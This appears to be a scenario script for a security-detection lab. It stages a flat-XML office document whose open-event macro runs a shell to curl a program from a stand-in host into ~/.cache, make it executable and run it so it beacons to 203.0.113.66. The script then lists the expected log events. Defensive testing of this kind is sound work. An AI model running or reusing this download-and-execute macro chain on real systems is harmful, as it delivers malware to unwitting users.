# The document is opened as it should be; what it holds starts a shell.
title="Office document starts a shell that fetches and runs a program"
what="The clerk opens forecast.fodt from Thunderbird in LibreOffice, both the real ones; LibreOffice was told earlier to run the macros of any document. The Basic macro that stands for the event of opening starts sh, which fetches a program with curl into ~/.cache, makes it executable and runs it; it connects to 203.0.113.66."
host=ws3.example.org user=clerk daemons="cron dovecot"

setup() {
  dovecot_config
  office_settings clerk 0
  office_document "$base/out/forecast.fodt" Forecast 'mkdir -p ~/.cache/fc; curl -s -o ~/.cache/fc/r http://drop.example.net/fc/r; chmod +x ~/.cache/fc/r; ~/.cache/fc/r 203.0.113.66 8443'
  mkdir -p "$base/out/www/fc"; cc -O1 -o "$base/out/www/fc/r" "$lab/lib/stand-ins/beacon.c"
}
act() {
  small_talk 2
  display_up
  mail_in --from controlling@example.net --to clerk@example.org --subject "Forecast" --attach "$base/out/forecast.fodt:application/vnd.oasis.opendocument.text-flat-xml"
  wait_log 'from=<controlling@example.net>'; wait_mail clerk 1; sleep 1
  thunderbird_as clerk open forecast.fodt /usr/bin/soffice
  wait_file /home/clerk/.cache/fc/r 60
  sleep 2
  desktop_close; close_of clerk soffice.bin
  small_talk 1
}
truth() {
  mail_step deliver 'to=<clerk@example.org>.*status=sent' 'the message is delivered'
  exec_step open 'soffice.bin .*forecast.fodt' 'the document is opened'
  exec_step shell 'sh -c .*curl' 'its macro starts a shell'
  exec_step execute 'fc/r 203.0.113.66' 'which runs what it fetched'
  net_step beacon 'r 203.0.113.66:8443' 'and that calls out'
}
